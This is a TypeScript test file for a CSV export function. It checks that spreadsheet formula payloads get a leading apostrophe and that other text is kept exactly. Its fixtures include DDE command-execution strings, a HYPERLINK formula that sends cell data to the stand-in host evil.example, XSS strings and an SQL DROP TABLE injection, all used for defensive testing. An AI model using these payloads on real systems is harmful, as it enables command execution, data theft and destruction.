/**
 * Exported CSV with hostile text from the user's data (cell values, a column name, a file name
 * in the header block): read back by a CSV parser, every cell is the exact original text, and
 * every one a spreadsheet would evaluate (DDE, HYPERLINK, `-`/`+`/`@` tricks) starts with the
 * inert apostrophe instead. HTML and `javascript:` stay plain text: a CSV has no markup.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { PAYLOADS } from '../../../tests/fixtures/hostile/expected.ts';
import { toCsv, type Cell } from './csv.ts';

/** Text a spreadsheet would run as a formula if written as is. */
const FORMULAS = [
	'=HYPERLINK("javascript:alert(1)";"Cliquez")',
	"=cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1'
];
/** Text that is only text: kept byte for byte. */
const INERT = [
	PAYLOADS.img,
	PAYLOADS.svgScript,
	PAYLOADS.sql,
	'javascript:alert(document.cookie)',
	'Ministère "Défense"; Sécurité, Armées\r\n=2+2',
	'# not a header'
];

function parse(csv: string, separator: ',' | ';'): string[][] {
	expect(csv.startsWith('\uFEFF')).toBe(true);
	const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: separator, newline: '\r\n' });
	expect(parsed.errors).toEqual([]);
	return parsed.data.filter((row) => row.length > 1 || row[0] !== '');
}

describe('toCsv with payloads', () => {
	for (const separator of [',', ';'] as const)
		it(`keeps inert text exact and neutralises formulas, in every place (separator ${separator})`, () => {
			const column = PAYLOADS.header; // a column name from the file
			const rows: Cell[][] = [
				['Année', column, '=1+1'],
				...INERT.map((text, i): Cell[] => [2020 + i, text, 1.5]),
				...FORMULAS.map((text, i): Cell[] => [2030 + i, text, -4])
			];
			const fileName = `=HYPERLINK("http://evil.example/"&A1).csv ${PAYLOADS.img}`;
			const csv = toCsv(rows, { separator, header: [`Fichier : ${fileName}`] });
			const back = parse(csv, separator);
			// Header block line: starts with "#", so it is inert, and it is kept whole.
			expect(back[0]).toEqual([`# Fichier : ${fileName}`]);
			expect(back[1]).toEqual(['Année', column, "'=1+1"]);
			expect(back.slice(2, 2 + INERT.length)).toEqual(
				INERT.map((text, i) => [String(2020 + i), text, '1.5'])
			);
			// Numbers stay numbers (-4 is not a formula), text formulas get the apostrophe.
			expect(back.slice(2 + INERT.length)).toEqual(
				FORMULAS.map((text, i) => [String(2030 + i), `'${text}`, '-4'])
			);
			expect(back).toHaveLength(2 + INERT.length + FORMULAS.length);
		});

	it('quotes a cell that holds the separator, a quote or a line break, and nothing else', () => {
		const csv = toCsv([[PAYLOADS.img, 'a;b', 'x"y', 'l1\nl2', PAYLOADS.sql]], { separator: ';' });
		// The SQL payload holds "'", ";" and "--": only ";" forces quotes.
		expect(csv).toBe(
			'\uFEFF<img src=x onerror=alert(1)>;"a;b";"x""y";"l1\nl2";"\'); DROP TABLE budget_lines; --"\r\n'
		);
	});
});
